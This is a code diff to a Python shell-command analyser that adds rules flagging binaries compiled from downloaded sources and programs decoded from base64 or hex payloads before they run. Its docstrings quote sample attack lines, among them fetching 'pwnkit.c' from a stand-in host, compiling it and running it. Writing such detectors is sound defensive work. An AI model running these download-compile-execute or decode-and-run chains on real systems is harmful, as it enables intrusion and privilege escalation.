@@ -207,6 +207,53 @@ _EXECUTE_MODES = re.compile(
 )
 
 
+_COMPILERS = frozenset({"gcc", "cc", "clang", "g++", "c++", "tcc", "musl-gcc"})
+
+
+def _compiled_from(cmd: SimpleCommand, downloaded: dict[str, SimpleCommand]) -> None:
+    """A compiler building a downloaded source: what it makes is downloaded code as well
+    (``curl -sO http://x/pwnkit.c && gcc pwnkit.c -o pk && ./pk``)."""
+    if cmd.name not in _COMPILERS:
+        return
+    sources = [a for a in operands(cmd, "oIlLDUx") if posixpath.basename(a) in downloaded]
+    if sources:
+        out = (_clustered(cmd.args, "o", "oIlLDUx") or ["a.out"])[-1]
+        downloaded[posixpath.basename(out)] = downloaded[posixpath.basename(sources[0])]
+
+
+def _decoded_files(cmd: SimpleCommand) -> list[str]:
+    """Files a decoder writes: ``echo f0VMRg... | base64 -d > /tmp/k``, ``xxd -r -p h > k``."""
+    decodes = (
+        (cmd.name in ("base64", "base32", "basenc") and {"-d", "--decode", "-D"} & set(cmd.args))
+        or (cmd.name == "xxd" and any(a.startswith("-r") for a in cmd.args))
+        or (cmd.name == "openssl" and "-d" in cmd.args)
+    )
+    if not decodes:
+        return []
+    return [t for op, t in cmd.redirects if op.lstrip("1") in (">", ">|")] + option_values(
+        cmd, "-o", "--output", "-out"
+    )
+
+
+def _decoded_then_executed(analysis: ShellAnalysis) -> Rule:
+    decoded: dict[str, SimpleCommand] = {}
+    for cmd in analysis.commands:
+        for path in _decoded_files(cmd):
+            decoded[posixpath.basename(path)] = cmd
+        target = _executed_file(cmd) if decoded else None
+        if target is not None and posixpath.basename(target) in decoded:
+            yield harm(
+                cmd,
+                DEFENCE_EVASION,
+                f"runs {target}, a program decoded from an encoded payload "
+                "(code nobody can read before it runs)",
+                "high",
+                0.85,
+                False,
+                f"{decoded[posixpath.basename(target)].text} … {cmd.text}",
+            )
+
+
 def _download_then_execute(analysis: ShellAnalysis) -> Rule:
     downloaded: dict[str, SimpleCommand] = {}
     for cmd in analysis.commands:
@@ -214,6 +261,7 @@ def _download_then_execute(analysis: ShellAnalysis) -> Rule:
             downloaded[posixpath.basename(name)] = cmd
         if not downloaded:
             continue
+        _compiled_from(cmd, downloaded)
         target = _executed_file(cmd)
         if target is not None and posixpath.basename(target) in downloaded:
             fetcher = downloaded[posixpath.basename(target)]
@@ -508,7 +556,12 @@ def _jndi(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
 
 
 GENERIC = [_jndi]
-SCRIPT = [_pipeline_execution, _substituted_execution, _download_then_execute]
+SCRIPT = [
+    _pipeline_execution,
+    _substituted_execution,
+    _download_then_execute,
+    _decoded_then_executed,
+]
 _INSTALL_COMMANDS = (
     *("pip", "pip2", "pip3", *(f"pip3.{minor}" for minor in range(6, 16))),
     *("uv", "uvx", "pipx", "poetry", "pipenv", "npm", "pnpm", "yarn", "bun", "npx", "pnpx"),
